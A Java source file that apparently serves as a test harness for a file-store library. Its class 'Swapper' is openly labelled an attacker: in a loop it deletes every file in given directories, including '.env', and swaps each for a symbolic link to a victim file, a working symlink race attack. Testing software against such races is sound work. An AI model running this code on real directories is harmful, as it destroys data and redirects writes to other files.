package dev.styxy.store.file;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * An attacker: exchanges every file that it can for a link to another one, until its stdin ends. It
 * is run from its source, by a user who may read nothing else.
 */
final class Swapper {
  private Swapper() {}

  /** Words: the file that the links lead to, and the directories in which names are exchanged. */
  public static void main(String[] words) throws IOException {
    System.out.println("ready");
    Path victim = Path.of(words[0]);
    boolean isLink = false;
    while (System.in.available() == 0) {
      isLink = !isLink;
      for (int i = 1; i < words.length; i++) {
        swap(Path.of(words[i]), victim, isLink);
      }
    }
  }

  private static void swap(Path directory, Path victim, boolean isLink) {
    for (Path name : names(directory)) {
      try {
        Files.deleteIfExists(name);
        if (isLink) {
          Files.createSymbolicLink(name, victim);
        } else {
          Files.writeString(name, "theirs");
        }
      } catch (IOException e) {
        continue; // not theirs, or gone already: the next one may do
      }
    }
  }

  private static List<Path> names(Path directory) {
    List<Path> names = new ArrayList<>(List.of(directory.resolve(".env")));
    try (Stream<Path> all = Files.list(directory)) {
      all.forEach(names::add);
    } catch (IOException e) {
      return names;
    }
    return names;
  }
}
